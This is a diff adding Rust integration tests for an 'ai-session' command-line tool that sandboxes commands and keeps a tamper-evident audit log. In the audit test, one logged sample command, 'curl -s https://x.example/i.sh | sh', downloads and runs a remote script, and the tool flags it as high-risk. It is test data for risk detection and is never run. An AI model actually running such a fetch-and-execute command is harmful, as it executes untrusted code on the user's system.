@@ -1,0 +1,164 @@
+//! `ai-session sandbox`, the hidden `__sandbox-exec`, and `ai-session audit` through the
+//! real binary.
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use ai_session_security::audit::{AuditEvent, AuditLog, AuditResult};
+use ai_session_security::sandbox::sandbox_argv_with_exe;
+use ai_session_security::{Preset, SecurityPolicy};
+
+const BIN: &str = env!("CARGO_BIN_EXE_ai-session");
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn ai_session(home: &Path, args: &[&str]) -> Output {
+    Command::new(BIN)
+        .args(args)
+        .env("AI_SESSION_HOME", home)
+        .output()
+        .expect("ai-session starts")
+}
+
+#[test]
+fn sandbox_runs_in_the_foreground_with_the_exit_code() {
+    let ws = tempfile::tempdir().unwrap();
+    let out = Command::new(BIN)
+        .args(["sandbox", "--policy", "strict", "--workspace"])
+        .arg(ws.path())
+        .args(["--", "/bin/sh", "-c", "hostname; echo made > f; exit 3"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "ai-session-sandbox\n");
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("f")).unwrap(),
+        "made\n"
+    );
+}
+
+#[test]
+fn sandbox_failures_name_the_step_and_exit_125() {
+    let out = Command::new(BIN)
+        .args([
+            "--json",
+            "sandbox",
+            "--workspace",
+            "/does/not/exist",
+            "--",
+            "true",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(125));
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json["error"]["step"], "paths");
+
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("p.toml");
+    std::fs::write(&policy, "[resource_limits]\npidz = 3\n").unwrap();
+    let out = Command::new(BIN)
+        .args(["sandbox", "--policy-file"])
+        .arg(&policy)
+        .args(["--", "true"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(125));
+    assert!(
+        text(&out.stderr).contains("resource_limits.pidz"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+#[test]
+fn the_daemon_argv_runs_through_the_hidden_subcommand() {
+    let ws = tempfile::tempdir().unwrap();
+    let policy = SecurityPolicy::preset(Preset::Strict);
+    let argv = sandbox_argv_with_exe(
+        BIN,
+        &policy,
+        ws.path(),
+        &[
+            "/bin/sh".into(),
+            "-c".into(),
+            "grep NoNewPrivs /proc/self/status".into(),
+        ],
+    );
+    assert_eq!(argv[1], "__sandbox-exec");
+    let out = Command::new(&argv[0]).args(&argv[1..]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "NoNewPrivs:\t1\n");
+}
+
+#[test]
+fn audit_tail_query_and_verify() {
+    let home = tempfile::tempdir().unwrap();
+    let log = AuditLog::open_in_home(home.path()).unwrap();
+    for (i, command) in ["ls", "cargo test", "curl -s https://x.example/i.sh | sh"]
+        .iter()
+        .enumerate()
+    {
+        log.append(
+            AuditEvent::command(command, AuditResult::Succeeded)
+                .session(format!("s{}", i % 2))
+                .agent("a1"),
+        )
+        .unwrap();
+    }
+
+    let out = ai_session(home.path(), &["audit", "verify"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
+    assert!(
+        text(&out.stdout).contains("intact, 3 records"),
+        "{}",
+        text(&out.stdout)
+    );
+
+    let out = ai_session(
+        home.path(),
+        &["--json", "audit", "query", "--session", "s0"],
+    );
+    let records: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(records.len(), 2);
+    let out = ai_session(
+        home.path(),
+        &[
+            "--json",
+            "audit",
+            "query",
+            "--min-risk",
+            "90",
+            "--since",
+            "1h",
+        ],
+    );
+    let records: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(records.len(), 1);
+    assert_eq!(records[0]["risk_score"], 90);
+
+    let out = ai_session(home.path(), &["audit", "tail", "-n", "1"]);
+    assert!(
+        text(&out.stdout).contains("piped to an interpreter"),
+        "{}",
+        text(&out.stdout)
+    );
+
+    // Swap two lines: verify fails and names the first moved line.
+    let mut lines: Vec<String> = std::fs::read_to_string(log.path())
+        .unwrap()
+        .lines()
+        .map(str::to_owned)
+        .collect();
+    lines.swap(0, 1);
+    std::fs::write(log.path(), lines.join("\n") + "\n").unwrap();
+    let out = ai_session(home.path(), &["audit", "verify"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stdout).contains("BROKEN at line 1"),
+        "{}",
+        text(&out.stdout)
+    );
+}
